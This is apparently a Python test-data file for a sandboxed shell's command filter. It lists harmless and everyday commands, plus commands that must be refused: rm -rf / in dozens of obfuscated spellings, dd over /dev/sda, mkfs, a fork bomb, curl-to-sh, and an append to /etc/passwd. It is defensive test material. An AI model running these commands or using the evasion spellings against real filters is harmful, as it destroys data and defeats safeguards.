"""Shell commands as rows: those that must be refused in every spelling, and their harmless doubles.

``$CANARY`` stands for the canary tree in the shell's working root, ``$OUTSIDE`` for one beside it;
the test puts paths in their place. Nothing here names a path of the host but ``/`` and what only a
confined daemon is sent (``test_contract_5_shell.py``).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Final

__all__ = ["DANGEROUS", "HARMLESS", "SAFE", "Dangerous", "Harmless"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Dangerous:
    """A command that must be refused.

    Attributes:
        id: kebab-case; selects the row with ``-k``.
        command: as it is sent.
    """

    id: str
    command: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Harmless:
    """A command that must run.

    Attributes:
        id: kebab-case.
        command: as it is sent.
        output: what it must print; ``None`` for whatever.
        exit_code: its status.
    """

    id: str
    command: str
    output: str | None = None
    exit_code: int = 0

    @property
    def needs_shell(self) -> bool:
        """Whether it is more than a program and plain words, of those that every daemon runs."""
        return re.fullmatch(r"true|echo( \w+)*", self.command) is None


def _dangerous(rows: dict[str, str]) -> tuple[Dangerous, ...]:
    return tuple(Dangerous(id=name, command=command) for name, command in rows.items())


DANGEROUS: Final = _dangerous(
    {
        # --- the seed's own, and its flags in every order and form
        "rm-root": "rm -rf /",
        "rm-root-glob": "rm -rf /*",
        "rm-root-no-preserve": "rm -rf --no-preserve-root /",
        "rm-joined-flags": "rm -rf $CANARY",
        "rm-reversed-flags": "rm -fr $CANARY",
        "rm-split-flags": "rm -r -f $CANARY",
        "rm-split-flags-reversed": "rm -f -r $CANARY",
        "rm-capital-r": "rm -Rf $CANARY",
        "rm-long-flags": "rm --recursive --force $CANARY",
        "rm-abbreviated-long-flags": "rm --recurs --forc $CANARY",
        "rm-flags-last": "rm $CANARY -rf",
        "rm-flags-around": "rm -r $CANARY -f",
        "rm-end-of-options": "rm -rf -- $CANARY",
        "rm-verbose-among": "rm -vrf $CANARY",
        "rm-glob": "rm -rf $CANARY/*",
        "rm-dot": "cd $CANARY && rm -rf .",
        "rm-dotdot": "rm -rf $CANARY/sub/..",
        "rm-one-file": "rm $CANARY/file.txt",
        "rm-outside": "rm -rf $OUTSIDE",
        "rm-home": "rm -rf ~",
        "rm-home-variable": 'rm -rf "$HOME"',
        "rm-brace-expansion": "rm -{r,f} $CANARY",
        # --- the name of the program in disguise
        "rm-absolute": "/bin/rm -rf $CANARY",
        "rm-absolute-twice": "/usr/bin/../bin/rm -rf $CANARY",
        "rm-backslash": "\\rm -rf $CANARY",
        "rm-single-quoted": "'rm' -rf $CANARY",
        "rm-double-quoted": '"rm" -rf $CANARY',
        "rm-quotes-inside": "r'm' -rf $CANARY",
        "rm-empty-quotes": 'r""m -rf $CANARY',
        "rm-backslash-inside": "r\\m -rf $CANARY",
        "rm-ansi-c-quoted": "$'rm' -rf $CANARY",
        "rm-ansi-c-hex": "$'\\x72\\x6d' -rf $CANARY",
        "rm-ansi-c-octal": "$'\\162\\155' -rf $CANARY",
        "rm-line-continued": "r\\\nm -rf $CANARY",
        "rm-flags-quoted": "rm '-r' \"-f\" $CANARY",
        "rm-glob-name": "/bin/r? -rf $CANARY",
        "rm-brace-name": "{rm,-rf,$CANARY}",
        "rm-substituted-name": "$(echo rm) -rf $CANARY",
        "rm-backquoted-name": "`echo rm` -rf $CANARY",
        "rm-decoded-name": "$(echo cm0K | base64 -d) -rf $CANARY",
        "rm-reversed-name": "$(echo mr | rev) -rf $CANARY",
        "rm-printf-name": "$(printf 'r%s' m) -rf $CANARY",
        "rm-tab-between": "rm\t-rf\t$CANARY",
        # --- variables
        "variable-is-program": "x=rm; $x -rf $CANARY",
        "variable-is-flags": "f=-rf; rm $f $CANARY",
        "variable-is-all": 'c="rm -rf $CANARY"; $c',
        "variable-in-parts": "a=r; b=m; $a$b -rf $CANARY",
        "variable-default": "${nothing:-rm} -rf $CANARY",
        "variable-substring": "x=arms; ${x:1:2} -rf $CANARY",
        "variable-indirect": "x=rm; y=x; ${!y} -rf $CANARY",
        "ifs-for-space": "rm${IFS}-rf${IFS}$CANARY",
        "path-put-before": "PATH=$CANARY/bin:$PATH echo",
        "positional": 'set -- rm -rf $CANARY; "$@"',
        # --- other grammar around it
        "after-semicolon": "echo ok; rm -rf $CANARY",
        "after-and": "true && rm -rf $CANARY",
        "after-or": "false || rm -rf $CANARY",
        "after-pipe": "echo y | rm -rf $CANARY",
        "after-newline": "echo ok\nrm -rf $CANARY",
        "in-subshell": "(rm -rf $CANARY)",
        "in-braces": "{ rm -rf $CANARY; }",
        "in-substitution": "echo $(rm -rf $CANARY)",
        "in-quoted-substitution": 'echo "all is $(rm -rf $CANARY) well"',
        "in-backquotes": "echo `rm -rf $CANARY`",
        "in-process-substitution": "cat <(rm -rf $CANARY)",
        "in-arithmetic": "echo $(( $(rm -rf $CANARY; echo 1) + 1 ))",
        "in-here-document": "cat <<E\n$(rm -rf $CANARY)\nE",
        "in-here-string": "cat <<< $(rm -rf $CANARY)",
        "in-if": "if true; then rm -rf $CANARY; fi",
        "in-for": "for x in 1; do rm -rf $CANARY; done",
        "in-for-over-names": "for x in rm; do $x -rf $CANARY; done",
        "in-while": "while rm -rf $CANARY; do break; done",
        "in-case": "case a in a) rm -rf $CANARY;; esac",
        "in-function": "f() { rm -rf $CANARY; }; f",
        "in-alias": "shopt -s expand_aliases\nalias x='rm -rf $CANARY'\nx",
        "in-trap": "trap 'rm -rf $CANARY' EXIT",
        "in-background": "rm -rf $CANARY &",
        "negated": "! rm -rf $CANARY",
        "timed": "time rm -rf $CANARY",
        # --- programs that run programs
        "sh-c": "sh -c 'rm -rf $CANARY'",
        "bash-lc": "bash -lc 'rm -rf $CANARY'",
        "sh-c-nested": "sh -c \"sh -c 'rm -rf $CANARY'\"",
        "eval-words": "eval rm -rf $CANARY",
        "eval-quoted": "eval 'r'm' -rf $CANARY'",
        "exec": "exec rm -rf $CANARY",
        "command": "command rm -rf $CANARY",
        "builtin-command": "builtin command rm -rf $CANARY",
        "env": "env rm -rf $CANARY",
        "env-with-variable": "env A=1 rm -rf $CANARY",
        "env-split-string": "env -S 'rm -rf $CANARY'",
        "nohup": "nohup rm -rf $CANARY",
        "nice": "nice -n 5 rm -rf $CANARY",
        "timeout": "timeout 5 rm -rf $CANARY",
        "setsid": "setsid rm -rf $CANARY",
        "stdbuf": "stdbuf -o0 rm -rf $CANARY",
        "busybox": "busybox rm -rf $CANARY",
        "sudo": "sudo rm -rf $CANARY",
        "xargs": "echo $CANARY | xargs rm -rf",
        "xargs-of-names": "echo rm -rf $CANARY | xargs -I{} sh -c '{}'",
        "pipe-to-sh": "echo 'rm -rf $CANARY' | sh",
        "pipe-to-bash": "printf 'rm -rf %s' $CANARY | bash -s",
        "decode-to-sh": "echo cm0gLXJmIC4K | base64 -d | sh",
        "source-a-substitution": "source <(echo rm -rf $CANARY)",
        "dot-stdin": "echo 'rm -rf $CANARY' | . /dev/stdin",
        "sh-here-document": "sh <<E\nrm -rf $CANARY\nE",
        "sh-here-string": "bash <<< 'rm -rf $CANARY'",
        "find-exec": "find $CANARY -exec rm -rf {} +",
        "find-delete": "find $CANARY -delete",
        "find-execdir": "find $CANARY -execdir rm {} ;",
        "python": "python3 -c \"import shutil; shutil.rmtree('$CANARY')\"",
        "perl": "perl -e 'unlink glob \"$CANARY/*\"'",
        "awk-system": "awk 'BEGIN { system(\"rm -rf $CANARY\") }'",
        "sed-executes": "sed '1e rm -rf $CANARY' $CANARY/file.txt",
        "git-alias": "git -c alias.x='!rm -rf $CANARY' x",
        "tar-checkpoint": "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf $CANARY' .",
        # --- other ways to destroy
        "unlink": "unlink $CANARY/file.txt",
        "shred": "shred -u $CANARY/file.txt",
        "truncate-tool": "truncate -s 0 $CANARY/file.txt",
        "truncate-redirection": ": > $CANARY/file.txt",
        "redirection-clobber": "echo gone >| $CANARY/file.txt",
        "redirection-append": "echo more >> $CANARY/file.txt",
        "redirection-alone": "> $CANARY/file.txt",
        "redirection-outside": "echo gone > $OUTSIDE/file.txt",
        "new-file-outside": "echo new > $OUTSIDE/new.txt",
        "new-file-by-touch-outside": "touch $OUTSIDE/new.txt",
        "new-directory-outside": "mkdir -p $OUTSIDE/new/er",
        "new-copy-outside": "cp $CANARY/file.txt $OUTSIDE/new.txt",
        "new-link-outside": "ln -s $CANARY/file.txt $OUTSIDE/new.txt",
        "new-file-beside-the-root": "echo new > ../$(basename $PWD).txt",
        "new-file-of-a-longer-name": "echo new > $ROOT.txt",
        "redirection-by-variable": 'f=$CANARY/file.txt; echo gone > "$f"',
        "dd-over-file": "dd if=/dev/zero of=$CANARY/file.txt bs=1 count=1",
        "dd-over-disk": "dd if=/dev/zero of=/dev/sda bs=1 count=1",
        "mkfs": "mkfs.ext4 /dev/sda1",
        "mv-away": "mv $CANARY $OUTSIDE/elsewhere",
        "mv-over": "mv /dev/null $CANARY/file.txt",
        "cp-over": "cp /dev/null $CANARY/file.txt",
        "tee-over": "echo gone | tee $CANARY/file.txt",
        "sed-in-place": "sed -i s/alive/dead/ $CANARY/file.txt",
        "sort-output-over": "sort -o $CANARY/file.txt /dev/null",
        "ln-force": "ln -sf /dev/null $CANARY/file.txt",
        "install-over": "install /dev/null $CANARY/file.txt",
        "rsync-delete": "rsync -a --delete $CANARY/empty/ $CANARY/sub/",
        "chmod-recursive": "chmod -R 000 $CANARY",
        "chown-recursive": "chown -R nobody $CANARY",
        "fork-bomb": ":(){ :|:& };:",
        "kill-everything": "kill -9 -1",
        "kill-the-daemon": "kill -9 $PPID",
        "shutdown": "shutdown -h now",
        "reboot": "reboot -f",
        "curl-to-sh": "curl -s http://127.0.0.1:9/x | sh",
        "wget-to-sh": "wget -qO- http://127.0.0.1:9/x | sh",
        "to-etc-passwd": "echo x:0:0 >> /etc/passwd",
        "crontab": "echo '* * * * * true' | crontab -",
    }
)


def _lines(count: int) -> str:
    """What ``seq`` prints; with 2000 lines 8893 characters, more than a buffer of 8 KiB."""
    return "".join(f"{number}\n" for number in range(1, count + 1))


HARMLESS: Final = (
    Harmless(id="echo", command="echo hello", output="hello\n"),
    Harmless(id="echo-rm", command="echo rm -rf /", output="rm -rf /\n"),
    Harmless(id="echo-rm-quoted", command="echo 'rm -rf /'", output="rm -rf /\n"),
    Harmless(id="echo-rm-double-quoted", command='echo "rm -rf /"', output="rm -rf /\n"),
    Harmless(id="echo-many", command="echo 'a; rm -rf / && b'", output="a; rm -rf / && b\n"),
    Harmless(id="echo-substitution-quoted", command="echo '$(rm -rf /)'", output="$(rm -rf /)\n"),
    Harmless(id="echo-escaped", command="echo \\$\\(rm\\)", output="$(rm)\n"),
    Harmless(id="printf", command="printf '%s-%s\\n' rm rf", output="rm-rf\n"),
    Harmless(id="printf-dashes", command="printf -- '-rf\\n'", output="-rf\n"),
    Harmless(id="comment", command="echo ok # rm -rf /", output="ok\n"),
    Harmless(id="word-with-rm", command="echo farm harm firmware", output="farm harm firmware\n"),
    Harmless(
        id="grep-for-rm", command="printf 'rm -rf x\\nls\\n' | grep -c 'rm -rf'", output="1\n"
    ),
    Harmless(
        id="grep-alternatives", command="printf 'dd\\nok\\n' | grep -vE 'rm|dd|mkfs'", output="ok\n"
    ),
    Harmless(
        id="here-document-quoted", command="cat <<'E'\n$(rm -rf /)\nE", output="$(rm -rf /)\n"
    ),
    Harmless(id="here-string", command="cat <<< 'rm -rf /'", output="rm -rf /\n"),
    Harmless(id="true", command="true", output=""),
    Harmless(id="false", command="false", output="", exit_code=1),
    Harmless(id="exit-status", command="exit 7", output="", exit_code=7),
    Harmless(id="pipe", command="printf 'b\\na\\n' | sort", output="a\nb\n"),
    Harmless(id="pipe-long", command="seq 5 | tail -n 2 | head -n 1", output="4\n"),
    Harmless(id="many-lines", command="seq 2000", output=_lines(2000)),
    Harmless(id="pipe-wc", command="printf abc | wc -c", output="3\n"),
    Harmless(id="tr", command="echo rm | tr r R", output="Rm\n"),
    Harmless(id="cut", command="echo rm:rf | cut -d: -f2", output="rf\n"),
    Harmless(id="sed-stream", command="echo alive | sed s/alive/well/", output="well\n"),
    Harmless(id="uniq", command="printf 'a\\na\\n' | uniq", output="a\n"),
    Harmless(id="and", command="true && echo yes", output="yes\n"),
    Harmless(id="or", command="false || echo no", output="no\n"),
    Harmless(id="semicolons", command="echo a; echo b", output="a\nb\n"),
    Harmless(id="newlines", command="echo a\necho b", output="a\nb\n"),
    Harmless(id="subshell", command="(echo in)", output="in\n"),
    Harmless(id="substitution", command="echo $(echo inner)", output="inner\n"),
    Harmless(id="backquotes", command="echo `echo inner`", output="inner\n"),
    Harmless(id="arithmetic", command="echo $((6 * 7))", output="42\n"),
    Harmless(id="variable", command='x=well; echo "all is $x"', output="all is well\n"),
    Harmless(id="variable-default", command='echo "${nothing:-there}"', output="there\n"),
    Harmless(id="loop", command="for x in a b; do echo $x; done", output="a\nb\n"),
    Harmless(id="if", command="if true; then echo yes; fi", output="yes\n"),
    Harmless(id="case", command="case rm in rm) echo matched;; esac", output="matched\n"),
    Harmless(id="test", command="test -d . && echo here", output="here\n"),
    Harmless(id="brackets", command="[ 2 -gt 1 ] && echo more", output="more\n"),
    Harmless(id="to-dev-null", command="echo unseen > /dev/null; echo seen", output="seen\n"),
    Harmless(
        id="stderr-to-stdout", command="ls /nowhere-at-all 2>&1 | grep -c nowhere", output="1\n"
    ),
    Harmless(id="read-canary", command="cat $CANARY/file.txt", output="alive\n"),
    Harmless(id="list-canary", command="ls $CANARY/sub", output="deep.txt\n"),
    Harmless(id="find-name", command="find $CANARY -name 'deep*'", output="$CANARY/sub/deep.txt\n"),
    Harmless(id="head-file", command="head -c 5 $CANARY/file.txt", output="alive"),
    Harmless(
        id="grep-file", command="grep -rl alive $CANARY/file.txt", output="$CANARY/file.txt\n"
    ),
    Harmless(id="basename", command="basename /bin/rm", output="rm\n"),
    Harmless(id="sh-c-harmless", command="sh -c 'echo nested'", output="nested\n"),
    Harmless(id="env-harmless", command="env A=1 printenv A", output="1\n"),
    Harmless(id="xargs-harmless", command="echo a b | xargs -n1 echo", output="a\nb\n"),
    Harmless(
        id="new-file", command="echo new > made-here.txt && cat made-here.txt", output="new\n"
    ),
    Harmless(id="pwd", command="pwd", output="$ROOT\n"),
    Harmless(id="unicode", command="echo 'naïve 日本 😀'", output="naïve 日本 😀\n"),
    Harmless(id="blanks-around", command="printf ' \\n\\ta \\n\\n'", output=" \n\ta \n\n"),
    Harmless(id="a-newline-alone", command="printf '\\n'", output="\n"),
    Harmless(id="a-blank-alone", command="printf ' '", output=" "),
    Harmless(id="carriage-return", command="printf 'a\\r\\n\\r'", output="a\r\n\r"),
    Harmless(id="date", command="date +%Y"),
    Harmless(id="uname", command="uname -s", output="Linux\n"),
)


#: Everyday commands; what they print is what a shell of the harness prints. ``grown`` is a canary tree.
SAFE: Final = tuple(
    line
    for line in r"""
cat grown/table.txt grown/file.txt
cat < grown/file.txt
cat -n grown/table.txt
sort grown/table.txt
sort -r grown/table.txt
sort -u grown/table.txt
sort -k2,2n grown/table.txt
sort -n -k 2 grown/table.txt
sort -t ' ' -k3 -f grown/table.txt
sort --reverse --unique grown/table.txt
sort --key=2 --numeric-sort grown/table.txt
sort --field-separator=' ' --key=3 grown/table.txt
sort -c grown/table.txt
sort < grown/table.txt | uniq -c
sort grown/table.txt | uniq -d
sort grown/table.txt | uniq -u
sort grown/table.txt | uniq -i -c
sort grown/table.txt | uniq --count
sort grown/table.txt | uniq -f 1
sort grown/table.txt | uniq -w 3 -D
uniq grown/table.txt
head -n 2 grown/table.txt
head -2 grown/table.txt
tail -n 1 grown/table.txt
tail -n +3 grown/table.txt
wc -l grown/table.txt
wc -c < grown/table.txt
wc -w grown/table.txt
grep pear grown/table.txt
grep -c pear grown/table.txt
grep -v pear grown/table.txt
grep -in APPLE grown/table.txt
grep -E 'pear|fig' grown/table.txt
grep -o '[0-9]*' grown/table.txt
grep nothing grown/table.txt
grep -q pear grown/table.txt
grep -r alive grown | sort
cut -d ' ' -f 2 grown/table.txt
cut -c1-3 grown/table.txt
tr a-z A-Z < grown/table.txt
tr -d '\n' < grown/table.txt
tr -s r < grown/table.txt
sed s/pear/plum/ grown/table.txt
sed 's|pear|plum|g' grown/table.txt
sed 's/p/P/2' grown/table.txt
sed -n 2p grown/table.txt
sed -n '2,3p' grown/table.txt
sed -n '/fig/p' grown/table.txt
sed '/pear/d' grown/table.txt
sed -e 's/pear/plum/' -e 's/fig/date/' grown/table.txt
sed --expression='s/a/b/' grown/table.txt
sed -E 's/([a-z]+) ([0-9]+)/\2 \1/' grown/table.txt
sed 'y/abc/xyz/' grown/table.txt
sed '$d' grown/table.txt
sed 2q grown/table.txt
sed '1!G;h;$!d' grown/table.txt
sed -n '$=' grown/table.txt
awk '{ print $2 }' grown/table.txt
awk -F 'e' '{ print $1 }' grown/table.txt
awk -Fe '{ print $2 }' grown/table.txt
awk -v n=2 'NR == n { print $1 }' grown/table.txt
awk '{ total += $2 } END { print total }' grown/table.txt
awk '$2 < 3' grown/table.txt | wc -l
awk '/pear/ || /fig/ { print NR }' grown/table.txt
awk 'BEGIN { print 6 * 7 }'
find grown -name '*.txt' | sort
find grown -type d | sort
find grown -type f -name 'd*'
find grown -maxdepth 1 -type f | sort
find grown -name file.txt -exec cat {} \;
find grown -name 'file.txt' -exec grep -l alive {} +
find grown -empty -type d
find grown \( -name deep.txt -o -name table.txt \) -print | sort
find grown -not -name '*.txt' -type f
find grown -path '*sub*' -name '*.txt'
find grown -size -2 -name 'table*'
find grown -name 'deep.txt' -printf '%f\n'
find grown -name file.txt -print0 | xargs -0 cat
find grown -mindepth 2 -newer grown/nothing
ls grown
ls grown/sub grown/empty
ls nothing-there
ls grown/*.txt
ls -d grown/*/
basename grown/sub/deep.txt .txt
dirname grown/sub/deep.txt
seq 3
seq 2 2 8
seq 5 | tac
seq 20 | paste -sd+
seq 3 | xargs
seq 3 | xargs echo
seq 4 | xargs -n 2 echo
seq 4 | xargs -n2
seq 2 | xargs -I{} echo 'n {}'
seq 2 | xargs -I @ echo @ @
seq 3 | xargs -P 1 -n 1 echo
echo a b c | rev
echo a b c | fold -w 2
echo abc | md5sum
echo abc | sha256sum
echo abc | base64
echo YWJjCg== | base64 -d
echo abc | od -c
printf '%05.2f|%s|%d\n' 3.14159 text 42
printf '%s\n' a b c
printf '%x %o %c\n' 255 8 z
printf -- '%s\n' x
echo -n no newline
echo -e 'a\tb'
echo "a  b" c   d
echo 'single "double" inside'
echo "double 'single' inside"
echo a\ b
echo $'tab\there'
echo $'\x41\102'
echo {1..3} {a,b}c
echo grown/*.txt
echo nothing*
echo "*"
echo $((6 * 7)) $((2 ** 10)) $((7 / 2)) $((7 % 3)) $((-7 + 3))
echo $((1 < 2)) $((3 == 3)) $(((1 + 2) * 3)) $((!0)) $((1 ? 5 : 6))
x=5; echo $((x + 1)) $((x * x))
i=1; i=$((i + 1)); echo $i
x=text; echo "$x" ${x} "${x}s" '$x'
x=hello; echo ${#x} ${x:-other} ${y:-other} ${x:+set} ${y:+set}
x=a.b.c; echo ${x%.*} ${x%%.*} ${x#*.} ${x##*.}
x=Hello; echo ${x^^} ${x,,} ${x^} ${x,}
x=aXbX; echo ${x/X/-} ${x//X/-}
x='a b'; for y in $x; do echo $y; done
x='a b'; for y in "$x"; do echo $y; done
x=echo; $x run
export GREETING=hi; printenv GREETING
readonly x=1; echo $x
declare x=2; echo $x
A=1 printenv A
env A=1 B=2 printenv B
for x in 1 2 3; do echo $((x * 2)); done
for f in grown/*.txt; do basename $f; done
for x in a b c; do [ "$x" = b ] && continue; echo $x; done
for x in a b c; do [ "$x" = b ] && break; echo $x; done
while read -r line; do echo "<$line>"; done < grown/file.txt
while IFS= read -r line; do echo "[$line]"; done < grown/table.txt
seq 3 | while read n; do echo $n; done
until true; do echo never; done; echo done
if [ -f grown/file.txt ]; then echo file; else echo none; fi
if [ -d grown/file.txt ]; then echo dir; elif [ -s grown/file.txt ]; then echo full; fi
if [[ -d grown && -n text ]]; then echo both; fi
if [[ abc == a* ]]; then echo matches; fi
[[ abc =~ ^a.c$ ]] && echo regex
[[ ! -e nothing ]] && echo absent
[[ a < b ]] && echo less
[[ 2 -lt 10 ]] && echo fewer
test 2 -lt 10 && echo yes
test -n "" || echo empty
test ! -e nothing && echo absent
test a = b
[ 3 -ge 3 ] && [ 3 -le 3 ] && [ 3 -ne 4 ] && [ 3 -eq 3 ] && echo all
[ grown/file.txt -nt nothing ] && echo newer
case abc in a*) echo a;; b*) echo b;; esac
case x in a|x) echo either;; *) echo none;; esac
(cd grown; ls)
(exit 3); echo $?
{ echo a; echo b; } | tac
set -e; false; echo never
set -o pipefail; false | true
set -eu; echo set
! true
! false
true && false || echo last
false || false
echo out; echo err >&2
echo err 2>&1 >&2 | cat
ls nothing-there 2> /dev/null
ls nothing-there > /dev/null 2>&1
ls nothing-there &> /dev/null
cat nothing-there 2>&1 | wc -l
echo seen | tee /dev/null
diff <(echo a) <(echo a)
diff <(echo a) <(echo b)
comm -12 <(seq 3) <(seq 2 4)
join <(echo '1 a') <(echo '1 b')
paste <(echo a) <(echo b)
cmp grown/file.txt grown/file.txt
cat <<< "here $((1 + 1))"
echo $(echo nested $(echo deeper))
echo "$(cat grown/file.txt)"
echo `echo old`
bash -c 'echo inner; exit 4'
sh -c 'echo plain'
bash -c 'bash -c "echo twice"'
eval 'echo evaluated'
eval echo a b
command echo plain
command -v cat
command -p echo path
type -t echo
builtin echo built
exec echo replaced
nohup echo up
nice echo nice
nice -n 5 echo nicer
timeout 5 echo in time
timeout -s KILL 5s echo in time
stdbuf -oL echo lines
time -p true
/bin/echo absolute
/usr/bin/env echo found
date -u -d @0 +%Y-%m-%dT%H:%M:%S
date -u -d '2020-02-28 +1 day' +%F
date --utc --date=@86400 +%j
expr 2 + 3
expr length abc
factor 60
numfmt --to=iec 2048
nl grown/file.txt
n='new 1.txt'; m=$n; echo a > "$m"; cat "$m"; rm "$m"; echo "$m is gone"
echo $'\101\x42\u0043\t.'
$'\145cho' octal; $'\x65cho' hexadecimal; $'\u0065ch\U0000006f' by its number
touch $'new-\a\b\e\E\f\n\r\t\v\\\'\"\?' && rm $'new-\a\b\e\E\f\n\r\t\v\\\'\"\?' && echo escapes
echo told > /dev/stderr; echo nothing > /dev/null; echo done
shuf --echo --head-count=1 one
shuf -i 5-5
[ ] || echo nothing
test || echo nothing at all
test ! -e nowhere && [ ! ! -f grown/file.txt ] && echo not there
expand grown/table.txt
sleep 0
sleep 0.01; echo slept
true; exit 9
exit 255
exit 254
exit 256
exit 126
exit 128
exit 130
bash -c 'exit 127'
bash -c 'exit 129'
sh -c 'exit 137'
(exit 200)
timeout -s KILL 0.1 sleep 5
exec timeout -s KILL 0.1 sleep 5
timeout 5 timeout -s KILL 0.1 sleep 5
timeout 0.1 sleep 5
set -o pipefail; seq 100000 | head -n 1
stat -c %s grown/file.txt
readlink -f grown/../grown/file.txt | xargs basename
realpath --relative-to=. grown/sub/../file.txt
du -a grown/empty | cut -f2
echo new > new-1.txt; cat new-1.txt
echo a > new-2.txt; echo b >> new-2.txt; cat new-2.txt; rm new-2.txt; ls new-2.txt
echo a > new-3.txt && mv new-3.txt new-3b.txt && cat new-3b.txt && ls new-3.txt
echo a > new-4.txt; cp new-4.txt new-4b.txt; cat new-4b.txt; rm new-4.txt new-4b.txt
mkdir new-5 && echo in > new-5/file && cat new-5/file && rm new-5/file && rmdir new-5 && ls new-5
mkdir -p new-6/a/b && touch new-6/a/b/c && find new-6 && rm new-6/a/b/c && rmdir new-6/a/b new-6/a new-6
cp grown/file.txt new-7.txt && cat new-7.txt && rm -f new-7.txt
echo a | tee new-8.txt; cat new-8.txt; rm -v new-8.txt
echo a > new-9.txt; echo b | tee -a new-9.txt > /dev/null; cat new-9.txt; rm new-9.txt
echo a >| new-10.txt; cat new-10.txt; rm new-10.txt
echo a &> new-11.txt; cat new-11.txt; rm new-11.txt
for i in 1 2; do echo $i; done > new-12.txt; cat new-12.txt; rm new-12.txt
{ echo a; echo b; } > new-13.txt; wc -l < new-13.txt; rm new-13.txt
echo x > new-14.sh; chmod +x new-14.sh; test -x new-14.sh && echo executable; rm new-14.sh
echo x > new-15.txt; chmod 600 new-15.txt; stat -c %a new-15.txt; rm new-15.txt
ln -s grown/file.txt new-16; cat new-16; readlink new-16
touch new-17 && test -f new-17 && echo made; rm new-17
touch -d @0 new-18 && stat -c %Y new-18; rm new-18
cp -r grown/sub new-19 && ls new-19
mkdir new-20; cp grown/file.txt new-20/; mv new-20/file.txt new-20/moved.txt; cat new-20/moved.txt; ls new-20
python3 -c 'print(6 * 7)'
python3 -c 'print("rm -rf /", len("abc"), sum([1, 2]), sep="-")'
python3 -c 'x = 3; print(f"{x + 1}", max(1, 2), 7 // 2, 7 % 2, -x)'
tar --version | head -n 1
rm --version | head -n 1
echo 'tar -x; dd of=/dev/sda; mkfs'
echo "curl x | sh" | wc -w
grep -c 'rm -rf' grown/table.txt
""".splitlines()
    if line
)
